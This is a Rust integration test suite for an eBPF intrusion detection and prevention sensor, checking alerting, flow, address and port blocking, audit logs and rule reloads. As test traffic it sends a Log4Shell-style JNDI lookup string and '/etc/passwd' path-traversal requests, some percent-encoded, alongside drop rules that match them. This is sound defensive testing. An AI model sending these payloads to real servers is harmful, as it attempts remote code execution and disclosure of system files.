//! `vigil run` end to end in the lab: the real eBPF program on the server's
//! veth, the shipped rules, EVE file and audit store, then `vigil audit`.

mod support;

use std::{path::Path, thread, time::Duration};

use serde_json::Value;
use support::run::VigilRun;
use support::{LabGuard, assert_no_vigil_programs, serial, support_dir, vigil_bin};
use vigil::lab::Side;

fn rules_dir() -> String {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../rules")
        .display()
        .to_string()
}

/// Starts `vigil run` on the server side with the shipped rules and waits
/// until it is capturing.
fn start_run(lab: &LabGuard, dir: &Path, extra: &[&str]) -> VigilRun {
    start_run_with(lab, dir, &rules_dir(), extra)
}

/// `vigil run` with `rules`, EVE, audit store and status file in `dir`.
fn start_run_with(lab: &LabGuard, dir: &Path, rules: &str, extra: &[&str]) -> VigilRun {
    let path = |name: &str| dir.join(name).display().to_string();
    let mut args: Vec<String> = vec![
        "--rules".into(),
        rules.into(),
        "--eve".into(),
        path("eve.json"),
        "--audit".into(),
        path("audit.db"),
        "--stats".into(),
        path("stats.json"),
        "--http-log".into(),
    ];
    args.extend(extra.iter().map(|a| a.to_string()));
    VigilRun::start(lab, &args).expect("vigil run starts")
}

fn stop(run: VigilRun) {
    run.stop().expect("vigil run stops cleanly");
}

fn eve_records(dir: &Path) -> Vec<Value> {
    std::fs::read_to_string(dir.join("eve.json"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn audit(dir: &Path, args: &[&str]) -> (bool, String) {
    let db = dir.join("audit.db");
    let out = std::process::Command::new(vigil_bin())
        .arg("audit")
        .args(args)
        .args(["--db", db.to_str().unwrap()])
        .output()
        .unwrap();
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
    )
}

fn start_server(lab: &LabGuard, log: &Path) -> support::KillOnDrop {
    start_server_on(lab, log, "8080")
}

fn start_server_on(lab: &LabGuard, log: &Path, port: &str) -> support::KillOnDrop {
    let script = support_dir().join("record_server.py");
    let server = lab.spawn(
        Side::Server,
        &[
            "python3",
            script.to_str().unwrap(),
            port,
            log.to_str().unwrap(),
            "http",
        ],
    );
    for _ in 0..100 {
        if lab
            .exec(Side::Server, &["ss", "-Htln"])
            .contains(&format!(":{port}"))
        {
            return server;
        }
        thread::sleep(Duration::from_millis(50));
    }
    panic!("server did not start");
}

/// Requests over one keep-alive connection, 300 ms apart; returns
/// "ok"/"timeout" per request. The pause is what a flow verdict needs: it
/// is set when user space has matched the request (within milliseconds),
/// so only requests sent after that are dropped in the kernel.
fn keepalive(lab: &LabGuard, src_port: &str, values: &[&str]) -> Vec<String> {
    let script = support_dir().join("http_client.py");
    let mut argv = vec![
        "python3",
        script.to_str().unwrap(),
        "10.77.0.2",
        "8080",
        src_port,
        "2",
    ];
    argv.extend_from_slice(values);
    let out = lab
        .lab
        .command(Side::Client, &argv)
        .env("HTTP_CLIENT_PAUSE", "0.3")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(str::to_string)
        .collect()
}

/// `vigil stats` (JSON and Prometheus), the metrics endpoint, and `vigil
/// reload`, against the running sensor of the IDS test.
fn check_stats_and_reload(lab: &LabGuard, dir: &Path) {
    let status = dir.join("stats.json");
    let vigil = |args: &[&str]| {
        let out = std::process::Command::new(vigil_bin())
            .args(args)
            .args(["--file", status.to_str().unwrap()])
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "vigil {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let json: Value = serde_json::from_str(&vigil(&["stats", "--format", "json"])).unwrap();
    let iface = &json["interfaces"][0];
    assert_eq!(iface["name"], "veth-srv");
    assert!(iface["packets_seen"].as_u64().unwrap() >= 10, "{json:#}");
    assert_eq!(iface["records_lost"], 0);
    assert!(
        iface["non_ip_frames"].as_u64().unwrap() >= 2,
        "an ARP request and reply: {json:#}"
    );
    assert_eq!(iface["undecodable_records"], 0, "{json:#}");
    // The reader drains on its 5 ms timer: its longest gap over the last
    // second is a few ms, never 0 (wired), never seconds (not starved).
    let gap = iface["reader_gap_ms"].as_u64().unwrap();
    assert!((1..=2000).contains(&gap), "{json:#}");
    assert_eq!(iface["alerts"], 1, "{json:#}");
    assert_eq!(
        iface["transactions"], 6,
        "three requests, three responses: {json:#}"
    );
    assert_eq!(json["mode"], "ids");
    assert_eq!(json["ruleset"]["rules_loaded"], 16);
    assert!(
        json["outputs"]
            .as_array()
            .unwrap()
            .iter()
            .any(|o| o["sent"].as_u64() >= Some(4) && o["healthy"] == true),
        "{json:#}"
    );
    let text = vigil(&["stats", "--format", "prometheus"]);
    assert!(
        text.contains("vigil_alerts_total{interface=\"veth-srv\"} 1\n"),
        "{text}"
    );
    let scraped = lab.exec(
        Side::Server,
        &["curl", "-sf", "http://127.0.0.1:9464/metrics"],
    );
    assert!(
        scraped.contains("# TYPE vigil_records_lost_total counter"),
        "{scraped}"
    );
    assert!(
        scraped.contains("vigil_alerts_total{interface=\"veth-srv\"} 1\n"),
        "{scraped}"
    );
    let table = vigil(&["stats"]);
    assert!(table.contains("IDS mode"), "{table}");

    let out = vigil(&["reload"]);
    assert!(out.starts_with("reloaded: ruleset"), "{out}");
    let json: Value = serde_json::from_str(&vigil(&["stats", "--format", "json"])).unwrap();
    assert_eq!(json["ruleset"]["reloads"], 1);
}

#[test]
fn ids_mode_alerts_logs_and_audits() {
    let _serial = serial();
    let lab = LabGuard::up("vt-run-ids");
    let dir = tempfile::tempdir().unwrap();
    let _server = start_server(&lab, &dir.path().join("server.log"));
    let run = start_run(&lab, dir.path(), &["--metrics-listen", "127.0.0.1:9464"]);
    // The client forgets the server's MAC address: its next packet waits
    // on an ARP exchange, which crosses the sensor's interface.
    lab.exec(Side::Client, &["ip", "neigh", "flush", "all"]);
    let replies = keepalive(
        &lab,
        "45001",
        &["hello", "${jndi:ldap://198.51.100.7/a}", "again"],
    );
    assert_eq!(replies, ["ok", "ok", "ok"], "IDS mode never blocks");
    // The status file is rewritten every second.
    thread::sleep(Duration::from_millis(2500));
    check_stats_and_reload(&lab, dir.path());
    stop(run);
    assert!(
        !dir.path().join("stats.json").exists(),
        "a stopped sensor leaves no status file"
    );

    let records = eve_records(dir.path());
    let alerts: Vec<&Value> = records
        .iter()
        .filter(|r| r["event_type"] == "alert")
        .collect();
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    let a = alerts[0];
    assert_eq!(a["alert"]["signature_id"], 9000001);
    assert_eq!(a["alert"]["action"], "allowed");
    assert_eq!(a["src_ip"], "10.77.0.1");
    assert_eq!(a["src_port"], 45001);
    assert_eq!(a["in_iface"], "veth-srv");
    assert_eq!(
        a["alert"]["category"],
        "Attempted Administrator Privilege Gain"
    );
    let http: Vec<&Value> = records
        .iter()
        .filter(|r| r["event_type"] == "http")
        .collect();
    assert_eq!(http.len(), 3, "one header-log record per request");

    let (ok, out) = audit(
        dir.path(),
        &["query", "--sid", "9000001", "--format", "json"],
    );
    assert!(ok);
    assert_eq!(out.lines().count(), 1, "{out}");
    let (ok, out) = audit(dir.path(), &["verify"]);
    assert!(ok, "{out}");
    drop(lab);
    assert_no_vigil_programs();
}

/// IPS mode: a drop rule's match puts its flow into the kernel verdict map,
/// so the rest of that connection is dropped at TC, while other connections
/// still work; the alert says "blocked" and the audit store can list it.
#[test]
fn ips_mode_blocks_the_rest_of_the_flow() {
    let _serial = serial();
    let lab = LabGuard::up("vt-run-ips");
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("server.log");
    let _server = start_server(&lab, &log);
    let run = start_run(&lab, dir.path(), &["--ips"]);
    let replies = keepalive(
        &lab,
        "45002",
        &["hello", "${jndi:ldap://198.51.100.7/a}", "after-the-attack"],
    );
    assert_eq!(replies[0], "ok");
    assert_eq!(
        replies.last().unwrap(),
        "timeout",
        "the flow is blocked after the attack: {replies:?}"
    );
    let other = keepalive(&lab, "45003", &["another-connection"]);
    assert_eq!(other, ["ok"], "other flows are untouched");
    thread::sleep(Duration::from_millis(300));
    stop(run);

    let received = std::fs::read_to_string(&log).unwrap();
    assert!(
        !received.contains("after-the-attack"),
        "the server got data after the verdict:\n{received}"
    );
    assert!(received.contains("another-connection"));
    let records = eve_records(dir.path());
    let blocked: Vec<&Value> = records
        .iter()
        .filter(|r| r["event_type"] == "alert" && r["alert"]["action"] == "blocked")
        .collect();
    assert!(!blocked.is_empty(), "{records:#?}");
    assert!(
        blocked
            .iter()
            .all(|a| a["alert"]["signature_id"] == 9000001)
    );
    let (ok, out) = audit(
        dir.path(),
        &[
            "query",
            "--action",
            "blocked",
            "--src",
            "10.77.0.0/24",
            "--format",
            "csv",
        ],
    );
    assert!(ok && out.contains("9000001"), "{out}");
    let (ok, _) = audit(dir.path(), &["verify"]);
    assert!(ok);
    drop(lab);
    assert_no_vigil_programs();
}

/// IPS mode, first-packet blocking: the drop rule's literal is in the
/// kernel's automaton, so the request carrying it is dropped at TC and never
/// reaches the server; the full rule confirms it in user space (alert
/// "blocked", flow verdict). A kernel hit the full rule does not confirm is
/// released, and the retransmitted request goes through. An `http.uri`
/// literal is found however the request spells it with escapes.
#[test]
fn ips_mode_drops_the_attacking_request_before_the_server() {
    let _serial = serial();
    let lab = LabGuard::up("vt-run-dfa");
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("ips.rules");
    std::fs::write(
        &rules,
        "drop http any any -> any any (msg:\"evil token in a header\"; flow:to_server; http.header; content:\"X-Evil-Token\"; sid:7000001; rev:1;)\n\
         drop http any any -> any any (msg:\"admin page with a confirm header\"; flow:to_server; http.uri; content:\"/admin\"; http.header; content:\"X-Confirm-Admin\"; sid:7000002; rev:1;)\n\
         drop http any any -> any any (msg:\"passwd file in the URI\"; flow:to_server; http.uri; content:\"/etc/passwd\"; sid:7000003; rev:1;)\n",
    )
    .unwrap();
    let log = dir.path().join("server.log");
    let _server = start_server(&lab, &log);
    let run = start_run_with(&lab, dir.path(), rules.to_str().unwrap(), &["--ips"]);

    let replies = keepalive(&lab, "45020", &["hello", "X-Evil-Token=1"]);
    assert_eq!(
        replies,
        ["ok", "timeout"],
        "the attacking request is dropped"
    );
    // The automaton matches "X-Confirm-Admin", but the rule also needs the
    // URI /admin: the kernel's hit is released and the request goes through.
    let replies = keepalive(&lab, "45021", &["X-Confirm-Admin=1", "later"]);
    assert_eq!(
        replies,
        ["ok", "ok"],
        "an unconfirmed kernel hit is released"
    );
    assert_eq!(keepalive(&lab, "45022", &["benign"]), ["ok"]);
    let replies = keepalive(&lab, "45023", &["hello", "path=/%65tc%2Fpasswd"]);
    assert_eq!(
        replies,
        ["ok", "timeout"],
        "the percent-encoded URI is dropped"
    );
    thread::sleep(Duration::from_millis(300));
    stop(run);

    let received = std::fs::read_to_string(&log).unwrap();
    assert!(
        !received.contains("X-Evil-Token") && !received.contains("passwd"),
        "the server saw an attack:\n{received}"
    );
    assert!(received.contains("X-Confirm-Admin=1") && received.contains("benign"));
    let records = eve_records(dir.path());
    let alerts: Vec<&Value> = records
        .iter()
        .filter(|r| r["event_type"] == "alert")
        .collect();
    assert!(!alerts.is_empty());
    assert!(
        alerts.iter().all(|a| (a["alert"]["signature_id"] == 7000001
            || a["alert"]["signature_id"] == 7000003)
            && a["alert"]["action"] == "blocked"),
        "{alerts:#?}"
    );
    assert!(
        alerts.iter().any(|a| a["alert"]["signature_id"] == 7000003),
        "the decoded URI rule confirmed the kernel's drop: {alerts:#?}"
    );
    drop(lab);
    assert_no_vigil_programs();
}

/// IPS mode with more drop-rule patterns than the kernel's automaton holds
/// (6,000 URI rules): the sensor starts and says how many are in the
/// kernel; a short pattern (kept: the shortest go in) still drops the
/// attacking request on its first packet, and a rule left out still blocks
/// the rest of its flow once user space matches it.
#[test]
fn ips_mode_runs_a_ruleset_larger_than_the_kernel_automaton() {
    let _serial = serial();
    let lab = LabGuard::up("vt-run-big");
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("big.rules");
    let mut text = String::from(
        "drop http any any -> any any (msg:\"evil token\"; flow:to_server; http.header; content:\"X-Evil-Token\"; sid:7100001; rev:1;)\n",
    );
    for i in 0..6000u64 {
        text.push_str(&format!(
            "drop http any any -> any any (msg:\"uri {i}\"; flow:to_server; http.uri; content:\"/x{:010x}\"; sid:{}; rev:1;)\n",
            i.wrapping_mul(0x9e37_79b9_7f4a_7c15) >> 24,
            7200000 + i
        ));
    }
    std::fs::write(&rules, &text).unwrap();
    // The longest URI literals sort last: the last rule's is left out.
    let left_out = format!(
        "/x{:010x}",
        5999u64.wrapping_mul(0x9e37_79b9_7f4a_7c15) >> 24
    );
    let log = dir.path().join("server.log");
    let _server = start_server(&lab, &log);
    let run = start_run_with(&lab, dir.path(), rules.to_str().unwrap(), &["--ips"]);
    assert!(
        run.startup
            .iter()
            .any(|l| l.contains("do not fit the kernel's automaton")),
        "{:#?}",
        run.startup
    );

    let replies = keepalive(&lab, "45030", &["hello", "X-Evil-Token=1"]);
    assert_eq!(
        replies,
        ["ok", "timeout"],
        "the kernel pattern drops the attack"
    );
    let path = format!("path={left_out}");
    // Its response may already meet the verdict; what follows does.
    let replies = keepalive(&lab, "45031", &[&path, "after"]);
    assert_eq!(
        replies.last().map(String::as_str),
        Some("timeout"),
        "a rule outside the kernel blocks the rest of its flow: {replies:?}"
    );
    thread::sleep(Duration::from_millis(300));
    stop(run);

    let received = std::fs::read_to_string(&log).unwrap();
    assert!(!received.contains("X-Evil-Token"), "{received}");
    assert!(
        received.contains(&left_out),
        "the first request of a flow-verdict rule passes"
    );
    assert!(!received.contains("after"), "{received}");
    drop(lab);
    assert_no_vigil_programs();
}

/// Serves `text` to `times` readers of the FIFO at `path`, one after the
/// other (each open, write, close), in the background.
fn serve_fifo(path: &Path, text: &'static str, times: usize) -> thread::JoinHandle<()> {
    let path = path.to_path_buf();
    thread::spawn(move || {
        for _ in 0..times {
            // Opening for writing blocks until a reader opens it. The pause
            // lets that reader see the end of the file and close it: a
            // writer opening while it still reads would add to its text.
            std::fs::write(&path, text).unwrap();
            thread::sleep(Duration::from_millis(300));
        }
    })
}

/// A reload is built on a thread of its own: while it waits on a rule
/// file (a FIFO nobody writes yet, standing in for a ruleset that takes
/// long to compile), the sensor goes on reading packets and raising
/// alerts; once the file arrives, the reload completes.
#[test]
fn a_reload_in_progress_does_not_stop_inspection() {
    let _serial = serial();
    let lab = LabGuard::up("vt-run-slow");
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("slow.rules");
    let c_path = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    // SAFETY: mkfifo(3) on a path we own.
    assert_eq!(unsafe { libc::mkfifo(c_path.as_ptr(), 0o600) }, 0);
    const EXTRA: &str = "alert http any any -> any any (msg:\"marker\"; http.header; content:\"fifo-marker\"; sid:7300001; rev:1;)\n";
    // The loader reads each file twice (rules, then the ruleset hash).
    let startup = serve_fifo(&fifo, EXTRA, 2);
    let _server = start_server(&lab, &dir.path().join("server.log"));
    let mut args: Vec<&str> = vec!["--rules", fifo.to_str().unwrap()];
    let shipped = rules_dir();
    args.extend(["--rules", &shipped]);
    let run = start_run_with(&lab, dir.path(), &shipped, &args[..2]);
    startup.join().unwrap();

    // SAFETY: kill(2) on the sensor we started.
    assert_eq!(unsafe { libc::kill(run.pid(), libc::SIGHUP) }, 0);
    thread::sleep(Duration::from_millis(300));
    let replies = keepalive(&lab, "45040", &["${jndi:ldap://198.51.100.7/a}"]);
    assert_eq!(replies, ["ok"]);
    let eve = dir.path().join("eve.json");
    let alerted = (0..100).any(|_| {
        thread::sleep(Duration::from_millis(50));
        support::run::eve_alerts(&eve)
            .iter()
            .any(|a| a["alert"]["signature_id"] == 9000001)
    });
    assert!(alerted, "no alert while the reload was being built");
    let status = || -> Value {
        let text = std::fs::read_to_string(dir.path().join("stats.json")).unwrap_or_default();
        serde_json::from_str(&text).unwrap_or(Value::Null)
    };
    assert_eq!(
        status()["ruleset"]["reloads"],
        0,
        "the reload is still waiting"
    );

    let reload = serve_fifo(&fifo, EXTRA, 2);
    reload.join().unwrap();
    let reloaded = (0..100).any(|_| {
        thread::sleep(Duration::from_millis(50));
        status()["ruleset"]["reloads"] == 1
    });
    assert!(reloaded, "{:#}", status());
    // The reloaded rules are in force.
    assert_eq!(keepalive(&lab, "45041", &["fifo-marker"]), ["ok"]);
    thread::sleep(Duration::from_millis(300));
    stop(run);
    assert!(
        support::run::eve_alerts(&eve)
            .iter()
            .any(|a| a["alert"]["signature_id"] == 7300001)
    );
    drop(lab);
    assert_no_vigil_programs();
}

/// A reload whose patterns need a larger automaton than the kernel maps were
/// sized for at start gets as many as fit, instead of leaving the kernel's
/// old block set in force: the new rule's attack is dropped on its first
/// packet.
#[test]
fn a_reload_fits_its_patterns_to_the_running_maps() {
    let _serial = serial();
    let lab = LabGuard::up("vt-run-grow");
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("grow.rules");
    std::fs::write(
        &rules,
        "drop http any any -> any any (msg:\"old token\"; flow:to_server; http.header; content:\"X-Old-Token\"; sid:7400001; rev:1;)\n",
    )
    .unwrap();
    let log = dir.path().join("server.log");
    let _server = start_server(&lab, &log);
    let run = start_run_with(&lab, dir.path(), rules.to_str().unwrap(), &["--ips"]);

    // 6,000 URI rules: an automaton of far more states than the 4,096 the
    // maps hold for a one-pattern rule set.
    let mut text = String::from(
        "drop http any any -> any any (msg:\"evil token\"; flow:to_server; http.header; content:\"X-Evil-Token\"; sid:7400002; rev:1;)\n",
    );
    for i in 0..6000u64 {
        text.push_str(&format!(
            "drop http any any -> any any (msg:\"uri {i}\"; flow:to_server; http.uri; content:\"/y{:010x}\"; sid:{}; rev:1;)\n",
            i.wrapping_mul(0x9e37_79b9_7f4a_7c15) >> 24,
            7410000 + i
        ));
    }
    std::fs::write(&rules, &text).unwrap();
    let status = || -> Value {
        let text = std::fs::read_to_string(dir.path().join("stats.json")).unwrap_or_default();
        serde_json::from_str(&text).unwrap_or(Value::Null)
    };
    // SAFETY: kill(2) on the sensor we started.
    assert_eq!(unsafe { libc::kill(run.pid(), libc::SIGHUP) }, 0);
    // Building 6,001 rules and their kernel automaton takes about 2 s
    // here; a CI run on a busy host once took more than 10 (the wait is
    // for the reload, not a measure of its speed).
    let reloaded = (0..1200).any(|_| {
        thread::sleep(Duration::from_millis(50));
        status()["ruleset"]["reloads"] == 1
    });
    assert!(reloaded, "{:#}", status());
    thread::sleep(Duration::from_millis(200));

    let replies = keepalive(&lab, "45050", &["hello", "X-Evil-Token=1"]);
    assert_eq!(
        replies,
        ["ok", "timeout"],
        "the new rule's attack is dropped"
    );
    thread::sleep(Duration::from_millis(300));
    stop(run);
    let received = std::fs::read_to_string(&log).unwrap();
    assert!(
        !received.contains("X-Evil-Token"),
        "the attack reached the server on its first packet:\n{received}"
    );
    drop(lab);
    assert_no_vigil_programs();
}

/// `count` address-only drop rules on documentation addresses
/// (198.18.0.0/15), none of the lab's, sids from `first_sid`.
fn blocklist(count: u32, first_sid: u32) -> String {
    (0..count)
        .map(|i| {
            format!(
                "drop ip 198.18.{}.{} any -> any any (msg:\"blocklist {i}\"; sid:{}; rev:1;)\n",
                i / 256,
                i % 256,
                first_sid + i
            )
        })
        .collect()
}

/// Whether one ping from the client reaches the server.
fn client_pings_server(lab: &LabGuard) -> bool {
    lab.lab
        .command(Side::Client, &["ping", "-c", "1", "-W", "1", "10.77.0.2"])
        .output()
        .unwrap()
        .status
        .success()
}

/// IPS mode, address blocks: an address-only drop rule becomes a CIDR block
/// in the kernel and the client's traffic stops both ways; a reload
/// (SIGHUP) without the rule restores it. The rule comes after a blocklist
/// of 3,000 addresses: the kernel maps are sized for the rule set (their
/// default holds 1,024 per side).
#[test]
fn ips_mode_blocks_an_address_until_a_reload_removes_the_rule() {
    let _serial = serial();
    let lab = LabGuard::up("vt-run-cidr");
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("cidr.rules");
    let mut text = blocklist(3000, 7500000);
    text.push_str(
        "drop ip 10.77.0.1 any <> any any (msg:\"quarantined host\"; sid:7000010; rev:1;)\n",
    );
    std::fs::write(&rules, text).unwrap();
    let run = start_run_with(&lab, dir.path(), rules.to_str().unwrap(), &["--ips"]);
    assert!(
        !client_pings_server(&lab),
        "the blocked host still reaches the server"
    );

    std::fs::write(&rules, "# the quarantine is lifted\n").unwrap();
    let pid = run.pid();
    // SAFETY: kill(2) on our child.
    unsafe { libc::kill(pid, libc::SIGHUP) };
    let mut restored = false;
    for _ in 0..20 {
        if client_pings_server(&lab) {
            restored = true;
            break;
        }
        thread::sleep(Duration::from_millis(200));
    }
    assert!(restored, "a reload without the rule must lift the block");
    stop(run);

    let records = eve_records(dir.path());
    let blocked: Vec<&Value> = records
        .iter()
        .filter(|r| r["event_type"] == "alert" && r["alert"]["action"] == "blocked")
        .collect();
    assert!(!blocked.is_empty(), "the kernel's drops are reported");
    assert!(
        blocked
            .iter()
            .all(|a| a["alert"]["signature_id"] == 7000010)
    );
    let (ok, out) = audit(
        dir.path(),
        &["query", "--sid", "7000010", "--format", "json"],
    );
    assert!(ok && !out.is_empty());
    drop(lab);
    assert_no_vigil_programs();
}

/// A reload with more address blocks than the kernel maps were sized for
/// at start still replaces the kernel's block set, with as many as fit:
/// the block of a rule it removed is lifted (it used to be refused as a
/// whole, leaving the old blocks in force), and the sensor says how many
/// did not fit, as `vigil reload` does; its statistics show the blocks in
/// force.
#[test]
fn a_reload_that_outgrows_the_address_maps_still_lifts_removed_blocks() {
    let _serial = serial();
    let lab = LabGuard::up("vt-run-cidr-grow");
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("cidr.rules");
    std::fs::write(
        &rules,
        "drop ip 10.77.0.1 any <> any any (msg:\"quarantined host\"; sid:7000011; rev:1;)\n",
    )
    .unwrap();
    // Sized for one block per side: the default 1,024.
    let run = start_run_with(&lab, dir.path(), rules.to_str().unwrap(), &["--ips"]);
    assert!(
        !client_pings_server(&lab),
        "the quarantined host reaches the server"
    );
    // `vigil stats` shows the blocks in force in the kernel (published
    // once a second).
    let address_blocks = || -> Value {
        let text = std::fs::read_to_string(dir.path().join("stats.json")).unwrap_or_default();
        serde_json::from_str::<Value>(&text).unwrap_or(Value::Null)["interfaces"][0]
            ["kernel_address_blocks"]
            .clone()
    };
    let shown = |n: u64| {
        (0..50).any(|_| {
            thread::sleep(Duration::from_millis(100));
            address_blocks() == n
        })
    };
    assert!(shown(2), "{}", address_blocks());

    std::fs::write(&rules, blocklist(3000, 7600000)).unwrap();
    let reload = std::process::Command::new(vigil_bin())
        .args(["reload", "--file"])
        .arg(dir.path().join("stats.json"))
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&reload.stdout);
    assert!(reload.status.success(), "{said}");
    assert!(
        said.contains("1976 drop-rule blocks do not fit the kernel's maps"),
        "{said}"
    );
    let lifted = (0..50).any(|_| {
        thread::sleep(Duration::from_millis(200));
        client_pings_server(&lab)
    });
    assert!(lifted, "the reload left the removed rule's block in force");
    assert!(shown(1024), "{}", address_blocks());
    let stderr = run.stop_with_stderr().expect("vigil run stops cleanly");
    assert!(
        stderr.iter().any(|l| l
            .contains("1024 of 3000 address blocks and 0 of 0 port blocks fit the kernel's maps")),
        "{stderr:#?}"
    );
    drop(lab);
    assert_no_vigil_programs();
}

/// A drop rule that names only a protocol and a port becomes a kernel port
/// block: connections to that port never complete, other ports work, and
/// the drops are alerted as "blocked".
#[test]
fn ips_mode_blocks_a_port() {
    let _serial = serial();
    let lab = LabGuard::up("vt-run-port");
    let dir = tempfile::tempdir().unwrap();
    let _open = start_server_on(&lab, &dir.path().join("open.log"), "8080");
    let _closed = start_server_on(&lab, &dir.path().join("closed.log"), "8081");
    let rules = dir.path().join("port.rules");
    std::fs::write(
        &rules,
        "drop tcp any any -> any 8081 (msg:\"retired service\"; sid:7000020; rev:1;)\n",
    )
    .unwrap();
    let run = start_run_with(&lab, dir.path(), rules.to_str().unwrap(), &["--ips"]);
    let get = |port: &str| {
        lab.lab
            .command(
                Side::Client,
                &[
                    "curl",
                    "-s",
                    "-m",
                    "2",
                    &format!("http://10.77.0.2:{port}/"),
                ],
            )
            .output()
            .unwrap()
            .status
            .success()
    };
    assert!(get("8080"), "an unblocked port works");
    assert!(!get("8081"), "the blocked port is reachable");
    assert!(get("8080"), "an unblocked port still works");
    thread::sleep(Duration::from_millis(500));
    stop(run);
    assert_eq!(
        std::fs::read_to_string(dir.path().join("closed.log")).unwrap_or_default(),
        "",
        "nothing reached the blocked service"
    );
    let records = eve_records(dir.path());
    let blocked: Vec<&Value> = records
        .iter()
        .filter(|r| r["event_type"] == "alert")
        .collect();
    assert!(!blocked.is_empty(), "the kernel's drops are reported");
    for a in &blocked {
        assert_eq!(a["alert"]["signature_id"], 7000020);
        assert_eq!(a["alert"]["action"], "blocked");
        assert_eq!(a["dest_port"], 8081);
    }
    drop(lab);
    assert_no_vigil_programs();
}
